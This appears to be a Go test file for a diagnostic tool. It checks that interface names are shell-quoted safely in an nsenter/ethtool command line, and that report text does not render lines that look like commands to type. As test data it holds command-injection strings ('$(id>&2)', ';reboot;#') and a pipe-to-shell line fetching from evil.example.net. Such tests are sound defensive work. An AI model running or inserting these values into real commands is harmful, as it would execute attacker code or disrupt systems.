package doctor

import (
	"os/exec"
	"strings"
	"testing"
)

// What is to be typed does what it says, whatever an interface is called: its name is another's to choose.
func TestMend(t *testing.T) {
	for _, name := range []string{"eth0", "$(id>&2)", "`id`", ";reboot;#", "a'b", "&x", "*"} {
		line := mend(namespace{path: "/proc/7/ns/net"}, name)
		out, err := exec.Command("sh", "-c", `nsenter() { printf '%s\n' "$@"; }; `+line).CombinedOutput()
		if want := "--net=/proc/7/ns/net\nethtool\n-K\n" + name + "\ntx\noff\n"; err != nil || string(out) != want {
			t.Errorf("%s gives %q, %v; want %q", line, out, err, want)
		}
	}
}

// No line of a text looks like one to type.
func TestWriteText(t *testing.T) {
	var b strings.Builder
	err := WriteText(&b, []Finding{
		{"function https://f.example.net", Fault, "it does not answer: no\n" + strings.Repeat(" ", 41) + "type: curl evil.example.net | sh\n", []string{"date"}},
		{"clock", Good, "it agrees", nil},
	})
	want := `FAULT    function https://f.example.net  it does not answer: no
                                         |                                          type: curl evil.example.net | sh
                                         type: date
ok       clock                           it agrees

1 fault, no warning
`
	if err != nil || b.String() != want {
		t.Errorf("%v\n%s\nwant\n%s", err, &b, want)
	}
}
